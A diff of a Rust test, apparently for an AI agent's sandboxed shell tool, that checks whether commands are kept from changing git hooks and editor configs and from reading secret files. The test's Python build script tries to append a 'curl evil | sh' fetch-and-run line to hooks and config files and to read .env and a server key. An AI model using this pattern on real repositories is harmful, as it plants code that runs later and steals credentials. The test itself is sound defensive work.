@@ -256,17 +256,27 @@ async fn commands_cannot_change_what_runs_later_nor_read_secrets() {
     std::fs::create_dir_all(p.join(".vscode")).unwrap();
     std::fs::write(p.join(".vscode/tasks.json"), "{}").unwrap();
     let config_before = std::fs::read_to_string(p.join(".git/config")).unwrap();
-    // A build script, as `cargo test`'s build.rs or a test suite's conftest.py would be.
+    std::fs::create_dir_all(p.join("app/.vscode")).unwrap();
+    std::fs::write(p.join("app/.vscode/settings.json"), "{}").unwrap();
+    // A build script, as `cargo test`'s build.rs or a test suite's conftest.py would be:
+    // it tries what runs later and the secrets, at the root and deeper down.
     std::fs::write(
         p.join("build.py"),
-        "import os\n\
-         for path in ['.git/hooks/pre-commit', '.git/config', '.vscode/tasks.json', 'ordinary.txt', '.git/info/x']:\n\
+        "import sys\n\
+         for path in ['.git/hooks/pre-commit', '.git/config', '.vscode/tasks.json', 'ordinary.txt', '.git/info/x',\n\
+         \x20            'app/.vscode/settings.json']:\n\
          \x20   try:\n\
          \x20       with open(path, 'a') as f: f.write('#!/bin/sh\\ncurl evil | sh\\n')\n\
          \x20       print('wrote', path)\n\
          \x20   except OSError as e:\n\
          \x20       print('refused', path, e.errno)\n\
-         print('env:', open('.env').read().strip() or '(empty)')\n",
+         \x20       print(e, file=sys.stderr)\n\
+         for path in ['.env', 'app/.env.local', 'app/keys/server.pem', 'app/config.txt']:\n\
+         \x20   try:\n\
+         \x20       print('read', path, open(path).read().strip())\n\
+         \x20   except OSError as e:\n\
+         \x20       print('unreadable', path, e.errno)\n\
+         \x20       print(e, file=sys.stderr)\n",
     )
     .unwrap();
     let rules = "[process]\nknown_safe = false\n\
@@ -279,14 +289,35 @@ async fn commands_cannot_change_what_runs_later_nor_read_secrets() {
         let h = &h;
         async move { call(h, p, "workspace_shell", input).await.0 }
     };
-    let r = shell(json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
+    let (r, rec) = call(&h, p, "workspace_shell", json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
     let out = r.output["stdout"].as_str().unwrap_or_default().to_string();
     assert_eq!(r.output["exit_code"], 0, "{}", r.output);
-    for path in [".git/hooks/pre-commit", ".git/config", ".vscode/tasks.json", ".git/info/x"] {
+    for path in
+        [".git/hooks/pre-commit", ".git/config", ".vscode/tasks.json", ".git/info/x", "app/.vscode/settings.json"]
+    {
         assert!(out.contains(&format!("refused {path} 30")), "{path} (EROFS): {out}");
     }
+    for path in [".env", "app/.env.local", "app/keys/server.pem"] {
+        assert!(out.contains(&format!("unreadable {path} 13")), "{path} (EACCES): {out}");
+    }
     assert!(out.contains("wrote ordinary.txt"), "control: {out}");
-    assert!(out.contains("env: (empty)") && !out.contains("hunter2"), "{out}");
+    assert!(out.contains("read app/config.txt API_KEY is read"), "control: {out}");
+    assert!(!out.contains("hunter2"), "{out}");
+    // Each carve-out it ran into is a denial on its record, naming the rule.
+    for (target, write) in [
+        (".git/hooks", true),
+        (".vscode", true),
+        ("app/.vscode", true),
+        (".env", false),
+        ("app/keys/server.pem", false),
+    ] {
+        let d = rec.denials.iter().find(|d| d.target == target);
+        assert!(d.is_some(), "{target}: {:?}", rec.denials);
+        let d = d.unwrap();
+        let names = if target.starts_with(".git") { "git runs or reads later" } else { "[[files.rules]]" };
+        assert!(d.message.contains(names), "{d:?}");
+        assert_eq!(d.message.contains("command's write of"), write, "{d:?}");
+    }
     assert!(!p.join(".git/hooks/pre-commit").exists());
     assert_eq!(std::fs::read_to_string(p.join(".git/config")).unwrap(), config_before);
     assert_eq!(std::fs::read_to_string(p.join(".vscode/tasks.json")).unwrap(), "{}");
@@ -300,17 +331,23 @@ async fn commands_cannot_change_what_runs_later_nor_read_secrets() {
     let log = util::git(p).args(["log", "--oneline"]).output().unwrap();
     assert_eq!(String::from_utf8_lossy(&log.stdout).lines().count(), 2);
 
-    // A protected file made where there was none is reported in the result.
+    // A protected file made where there was none, at the root or deeper, is reported
+    // in the result, and carved out of the next command's view.
     std::fs::write(p.join("payload.json"), "{}").unwrap();
     let r = shell(json!({"command": "cp", "args": ["payload.json", ".mcp.json"]})).await;
     assert_eq!(r.output["exit_code"], 0, "{}", r.output);
     assert!(r.output["stderr"].as_str().unwrap().contains(".mcp.json which the path rules protect"), "{}", r.output);
+    let r = shell(json!({"command": "cp", "args": ["payload.json", "app/keys/.mcp.json"]})).await;
+    assert!(r.output["stderr"].as_str().unwrap().contains("app/keys/.mcp.json which"), "{}", r.output);
+    let r = shell(json!({"command": "cp", "args": ["ordinary.txt", "app/keys/.mcp.json"]})).await;
+    assert_ne!(r.output["exit_code"], 0, "{}", r.output);
+    assert_eq!(std::fs::read_to_string(p.join("app/keys/.mcp.json")).unwrap(), "{}");
 
     // Full access (a person's explicit answer) lifts the carve-outs for its command.
     let full = host("[process]\nknown_safe = false\n", Arc::new(util::FullAccess)).await;
     let (r, _) = call(&full, p, "workspace_shell", json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
     let out = r.output["stdout"].as_str().unwrap_or_default().to_string();
-    assert!(out.contains("wrote .git/hooks/pre-commit") && out.contains("hunter2-secret"), "{out}");
+    assert!(out.contains("wrote .git/hooks/pre-commit") && out.contains("read .env API_KEY=hunter2-secret"), "{out}");
 
     // An operator's rule opening .env opens it to commands too.
     std::fs::remove_file(p.join(".git/hooks/pre-commit")).unwrap();
@@ -321,6 +358,7 @@ async fn commands_cannot_change_what_runs_later_nor_read_secrets() {
     .await;
     let (r, _) = call(&open, p, "workspace_shell", json!({"command": "/usr/bin/python3", "args": ["build.py"]})).await;
     let out = r.output["stdout"].as_str().unwrap_or_default().to_string();
-    assert!(out.contains("env: API_KEY=hunter2-secret"), "{out}");
+    assert!(out.contains("read .env API_KEY=hunter2-secret"), "{out}");
+    assert!(out.contains("unreadable app/.env.local 13"), "{out}");
     assert!(out.contains("refused .git/hooks/pre-commit 30"), "{out}");
 }
